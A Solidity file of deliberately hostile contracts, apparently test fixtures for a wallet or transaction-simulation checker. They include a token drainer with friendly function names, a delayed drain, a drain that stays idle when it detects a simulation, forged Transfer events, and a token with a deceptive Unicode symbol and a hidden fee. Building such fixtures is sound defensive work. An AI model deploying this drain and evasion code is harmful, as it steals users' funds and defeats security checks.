// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface Token {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function balanceOf(address owner) external view returns (uint256);
}

/// Takes the sent ether and every approved token, under a friendly name.
contract Drainer {
    Token token;
    constructor(Token token_) { token = token_; }
    function claimReward() external payable {
        token.transferFrom(msg.sender, address(this), token.balanceOf(msg.sender));
    }
    /// Gives nothing until the block number is reached, then takes the tokens.
    function claimAfter(uint256 blockNumber) external payable {
        if (block.number >= blockNumber) {
            token.transferFrom(msg.sender, address(this), token.balanceOf(msg.sender));
        }
    }
    function failWith(string calldata reason) external payable { revert(reason); }
    /// Takes the tokens, unless it seems to run in a simulation.
    function claimUnwatched() external payable {
        if (block.basefee == 0 || tx.gasprice == 0 || block.prevrandao == 0 || block.coinbase == address(0)) return;
        token.transferFrom(msg.sender, address(this), token.balanceOf(msg.sender));
    }
    /// Says that it moves tokens of the sender, many times.
    function shout(uint256 times) external {
        for (uint256 i = 0; i < times; i++) new Liar(msg.sender);
        token.transferFrom(msg.sender, address(this), token.balanceOf(msg.sender));
    }
}

contract Liar {
    event Transfer(address indexed from, address indexed to, uint256 value);
    constructor(address victim) { emit Transfer(victim, address(this), type(uint256).max); }
}

/// Token with a deceiving symbol, that gives allowances without a log and keeps a part of each transfer.
contract Hostile {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint8 public constant decimals = 6;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event ApprovalForAll(address indexed owner, address indexed operator, bool approved);
    constructor() { balanceOf[msg.sender] = 1000e6; }
    function symbol() external pure returns (string memory) { return unicode"US\u202e\u200bDC with a name that is far too long"; }
    function transfer(address to, uint256 value) external returns (bool) {
        balanceOf[msg.sender] -= value * 2;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }
    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }
    function setApprovalForAll(address operator, bool approved) external {
        emit ApprovalForAll(msg.sender, operator, approved);
    }
}

/// Collection whose sender owns the token 7. It says by `ownerOf` only that it is one, as early collections do.
contract Piece {
    address owner = msg.sender;
    event Transfer(address indexed from, address indexed to, uint256 indexed tokenId);
    event Approval(address indexed owner, address indexed approved, uint256 indexed tokenId);
    function symbol() external pure returns (string memory) { return "PCS"; }
    function ownerOf(uint256 tokenId) external view returns (address) { require(tokenId == 7); return owner; }
    function approve(address to, uint256 tokenId) external { emit Approval(msg.sender, to, tokenId); }
    function transferFrom(address from, address to, uint256 tokenId) external {
        require(from == owner && msg.sender == owner);
        owner = to;
        emit Transfer(from, to, tokenId);
    }
}
